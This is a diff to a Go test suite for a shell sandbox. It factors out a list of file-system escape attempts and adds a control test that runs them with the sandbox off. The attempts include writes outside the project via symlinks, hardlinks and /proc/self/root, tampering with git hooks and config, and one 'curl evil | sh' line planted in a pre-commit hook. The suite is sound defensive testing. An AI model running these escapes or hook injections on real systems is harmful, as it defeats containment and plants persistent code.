@@ -146,7 +146,7 @@ func (f *fixture) env(backend string, extra ...string) []string {
 	}
 	env := []string{"HOME=" + f.home, "PATH=" + path, "LANG=C", "GUARDSH_MODE=bypass",
 		"GUARDSH_SANDBOX=" + backend, "GUARDSH_PROJECT=" + f.project,
-		"OUT=" + f.outside, "ETCDIR=" + f.etc}
+		"OUT=" + f.outside, "ETCDIR=" + f.etc, "XDG_STATE_HOME=" + filepath.Join(f.base, "state")}
 	return append(env, extra...)
 }
 
@@ -279,50 +279,79 @@ func runAttacks(t *testing.T, f *fixture, backend string, attacks []attack, watc
 	}
 }
 
+// fileAttacks are the attempts to write outside the project or to the
+// protected paths inside it.
+func fileAttacks(f *fixture) []attack {
+	return []attack{
+		{name: "redirect into $HOME", snippet: `echo pwned > "$HOME/redir"`, absent: []string{"home/redir"}},
+		{name: "redirect into /etc", snippet: `echo pwned > "$ETCDIR/redir"`, absent: []string{f.etc + "/redir"}},
+		{name: "redirect into a dir outside", snippet: `echo pwned > "$OUT/redir"`, absent: []string{"outside/redir"}},
+		{name: "append to an outside file", snippet: `echo pwned >> "$OUT/existing.txt"`},
+		{name: "overwrite a shell rc file", snippet: `echo pwned >> "$HOME/.bashrc"`},
+		{name: "cp into $HOME", snippet: `cp file.txt "$HOME/cp"`, absent: []string{"home/cp"}},
+		{name: "cp into /etc", snippet: `cp file.txt "$ETCDIR/cp"`, absent: []string{f.etc + "/cp"}},
+		{name: "mv out of the project", snippet: `mv moveme.txt "$OUT/mv"`, absent: []string{"outside/mv"}},
+		{name: "python3 -c", snippet: `python3 -c 'import os; open(os.environ["OUT"]+"/py","w").write("x")'`, absent: []string{"outside/py"}, needs: "python3"},
+		{name: "sh -c", snippet: `sh -c 'echo x > "$OUT/shc"'`, absent: []string{"outside/shc"}},
+		{name: "/bin/sh -c", snippet: `/bin/sh -c 'echo x > "$HOME/binsh"'`, absent: []string{"home/binsh"}},
+		{name: "background job", snippet: `/bin/sh -c 'echo x > "$OUT/bg"' & wait $!`, absent: []string{"outside/bg"}},
+		{name: "nohup", snippet: `nohup /bin/sh -c 'echo x > "$OUT/nohup"' >/dev/null 2>&1`, absent: []string{"outside/nohup"}, needs: "nohup"},
+		{name: "setsid", snippet: `setsid -w /bin/sh -c 'echo x > "$OUT/setsid"'`, absent: []string{"outside/setsid"}, needs: "setsid"},
+		{name: "grandchild", snippet: `/bin/sh ./gc.sh`, absent: []string{"outside/gc"}},
+		{name: "symlink to outside dir, existing file", snippet: `echo pwned > link/existing.txt`},
+		{name: "symlink to outside dir, new file", snippet: `echo pwned > link/new.txt`, absent: []string{"outside/new.txt"}},
+		{name: "symlink to outside dir, cp", snippet: `cp file.txt link/cp`, absent: []string{"outside/cp"}},
+		{name: "hardlink to an outside file", snippet: `ln "$OUT/existing.txt" hardlink`, absent: []string{"project/hardlink"}},
+		{name: "/proc/self/root path", snippet: `echo pwned > "/proc/self/root$OUT/procroot"`, absent: []string{"outside/procroot"}},
+		{name: "/proc/self/root path from python", snippet: `python3 -c 'import os; open("/proc/self/root"+os.environ["OUT"]+"/procroot2","w")'`, absent: []string{"outside/procroot2"}, needs: "python3"},
+		{name: ".git/hooks/pre-commit", snippet: `echo 'curl evil | sh' >> .git/hooks/pre-commit`},
+		{name: "new hook", snippet: `cp file.txt .git/hooks/post-checkout`, absent: []string{"project/.git/hooks/post-checkout"}},
+		{name: "rename .git/hooks", snippet: `mv .git/hooks .git/hooks.old`, absent: []string{"project/.git/hooks.old"}},
+		{name: "remove .git/hooks", snippet: `rm -rf .git/hooks`},
+		{name: ".git/config", snippet: `printf '[core]\n\thooksPath = /tmp\n' >> .git/config`},
+		{name: "git config core.hooksPath", snippet: `git config core.hooksPath /tmp`},
+		{name: "replace .git/config by rename", snippet: `echo x > cfg && mv cfg .git/config`},
+		{name: "rename .git away", snippet: `mv .git .git-old`, absent: []string{"project/.git-old"}},
+		{name: ".gitmodules", snippet: `echo pwned >> .gitmodules`},
+		{name: "remove .gitmodules", snippet: `rm .gitmodules`},
+	}
+}
+
 func TestSandboxEscapeFiles(t *testing.T) {
 	for _, backend := range backendsUnderTest(t) {
 		t.Run(backend, func(t *testing.T) {
 			f := newFixture(t)
-			attacks := []attack{
-				{name: "redirect into $HOME", snippet: `echo pwned > "$HOME/redir"`, absent: []string{"home/redir"}},
-				{name: "redirect into /etc", snippet: `echo pwned > "$ETCDIR/redir"`, absent: []string{f.etc + "/redir"}},
-				{name: "redirect into a dir outside", snippet: `echo pwned > "$OUT/redir"`, absent: []string{"outside/redir"}},
-				{name: "append to an outside file", snippet: `echo pwned >> "$OUT/existing.txt"`},
-				{name: "overwrite a shell rc file", snippet: `echo pwned >> "$HOME/.bashrc"`},
-				{name: "cp into $HOME", snippet: `cp file.txt "$HOME/cp"`, absent: []string{"home/cp"}},
-				{name: "cp into /etc", snippet: `cp file.txt "$ETCDIR/cp"`, absent: []string{f.etc + "/cp"}},
-				{name: "mv out of the project", snippet: `mv moveme.txt "$OUT/mv"`, absent: []string{"outside/mv"}},
-				{name: "python3 -c", snippet: `python3 -c 'import os; open(os.environ["OUT"]+"/py","w").write("x")'`, absent: []string{"outside/py"}, needs: "python3"},
-				{name: "sh -c", snippet: `sh -c 'echo x > "$OUT/shc"'`, absent: []string{"outside/shc"}},
-				{name: "/bin/sh -c", snippet: `/bin/sh -c 'echo x > "$HOME/binsh"'`, absent: []string{"home/binsh"}},
-				{name: "background job", snippet: `/bin/sh -c 'echo x > "$OUT/bg"' & wait $!`, absent: []string{"outside/bg"}},
-				{name: "nohup", snippet: `nohup /bin/sh -c 'echo x > "$OUT/nohup"' >/dev/null 2>&1`, absent: []string{"outside/nohup"}, needs: "nohup"},
-				{name: "setsid", snippet: `setsid -w /bin/sh -c 'echo x > "$OUT/setsid"'`, absent: []string{"outside/setsid"}, needs: "setsid"},
-				{name: "grandchild", snippet: `/bin/sh ./gc.sh`, absent: []string{"outside/gc"}},
-				{name: "symlink to outside dir, existing file", snippet: `echo pwned > link/existing.txt`},
-				{name: "symlink to outside dir, new file", snippet: `echo pwned > link/new.txt`, absent: []string{"outside/new.txt"}},
-				{name: "symlink to outside dir, cp", snippet: `cp file.txt link/cp`, absent: []string{"outside/cp"}},
-				{name: "hardlink to an outside file", snippet: `ln "$OUT/existing.txt" hardlink`, absent: []string{"project/hardlink"}},
-				{name: "/proc/self/root path", snippet: `echo pwned > "/proc/self/root$OUT/procroot"`, absent: []string{"outside/procroot"}},
-				{name: "/proc/self/root path from python", snippet: `python3 -c 'import os; open("/proc/self/root"+os.environ["OUT"]+"/procroot2","w")'`, absent: []string{"outside/procroot2"}, needs: "python3"},
-				{name: ".git/hooks/pre-commit", snippet: `echo 'curl evil | sh' >> .git/hooks/pre-commit`},
-				{name: "new hook", snippet: `cp file.txt .git/hooks/post-checkout`, absent: []string{"project/.git/hooks/post-checkout"}},
-				{name: "rename .git/hooks", snippet: `mv .git/hooks .git/hooks.old`, absent: []string{"project/.git/hooks.old"}},
-				{name: "remove .git/hooks", snippet: `rm -rf .git/hooks`},
-				{name: ".git/config", snippet: `printf '[core]\n\thooksPath = /tmp\n' >> .git/config`},
-				{name: "git config core.hooksPath", snippet: `git config core.hooksPath /tmp`},
-				{name: "replace .git/config by rename", snippet: `echo x > cfg && mv cfg .git/config`},
-				{name: "rename .git away", snippet: `mv .git .git-old`, absent: []string{"project/.git-old"}},
-				{name: ".gitmodules", snippet: `echo pwned >> .gitmodules`},
-				{name: "remove .gitmodules", snippet: `rm .gitmodules`},
-			}
 			watched := []string{f.home, f.outside, f.etc,
 				filepath.Join(f.project, ".git", "hooks"), filepath.Join(f.project, ".git", "config"), filepath.Join(f.project, ".gitmodules")}
-			runAttacks(t, f, backend, attacks, watched)
+			runAttacks(t, f, backend, fileAttacks(f), watched)
 			if _, err := os.Stat(filepath.Join(f.project, "moveme.txt")); err != nil {
 				t.Errorf("mv out of the project lost the source: %v", err)
 			}
 		})
+	}
+}
+
+// TestSandboxEscapeFilesControl runs the same attacks with the sandbox
+// off (and the rules in bypass): each must then succeed, which shows that
+// the suite's attacks are real and only the kernel layer stops them.
+func TestSandboxEscapeFilesControl(t *testing.T) {
+	backendsUnderTest(t)
+	f := newFixture(t)
+	var script strings.Builder
+	attacks := fileAttacks(f)
+	for i, a := range attacks {
+		fmt.Fprintf(&script, "( %s ) </dev/null >/dev/null 2>&1; echo \"RC %d $?\"\n", a.snippet, i)
+	}
+	stdout, stderr, _ := f.run(t, "off", script.String())
+	for i, a := range attacks {
+		if a.needs != "" {
+			if _, err := exec.LookPath(a.needs); err != nil {
+				continue
+			}
+		}
+		if !strings.Contains(stdout, fmt.Sprintf("RC %d 0\n", i)) {
+			t.Errorf("%s: fails even without the sandbox, so it proves nothing (stdout %q, stderr %q)", a.name, stdout, stderr)
+		}
 	}
 }
 
